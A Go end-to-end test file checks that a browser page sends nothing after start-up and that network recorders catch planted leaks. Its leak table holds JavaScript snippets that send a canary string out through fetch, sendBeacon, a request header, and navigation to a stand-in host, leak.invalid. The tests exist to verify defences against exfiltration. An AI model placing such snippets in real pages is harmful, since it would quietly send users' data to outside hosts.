package e2e

import (
	"strings"
	"testing"
)

func TestNothingIsSentAfterStart(t *testing.T) {
	p := newTab(t, newSite(t))
	p.open("/")
	p.installed()
	start := p.mark()
	p.press("38")
	p.click("h1")
	p.silentSince(start)
	for _, r := range p.other.since(0) {
		t.Error("another host was asked:", r)
	}
	p.clean()
}

// The recorders must not be blind: each planted leak has to be seen.
func TestPlantedLeaksAreSeen(t *testing.T) {
	const canary = "CANARY 7319"
	leaks := map[string]struct{ seenBy, script string }{
		"fetch":  {"page", `fetch("?note=" + encodeURIComponent(canary))`},
		"beacon": {"server", `navigator.sendBeacon("x", btoa("--" + canary))`},
		"header": {"server", `fetch("x", {headers: {note: canary}})`},
		"link":   {"proxy", `location.href = "http://leak.invalid/" + canary`},
	}
	for name, leak := range leaks {
		t.Run(name, func(t *testing.T) {
			p := newTab(t, newSite(t))
			p.open("/")
			p.installed()
			start := p.mark()
			eval[bool](p, `(() => { const canary = "`+canary+`"; `+leak.script+`; return true })()`)
			if len(p.requestsSince(start)) == 0 {
				t.Error("the request was not seen")
			}
			var seenBy []string
			for _, r := range p.carrying(canary) {
				seenBy = append(seenBy, r.seenBy)
			}
			if !strings.Contains(strings.Join(seenBy, " "), leak.seenBy) {
				t.Errorf("the canary was seen by %v, want %s among them", seenBy, leak.seenBy)
			}
		})
	}
}
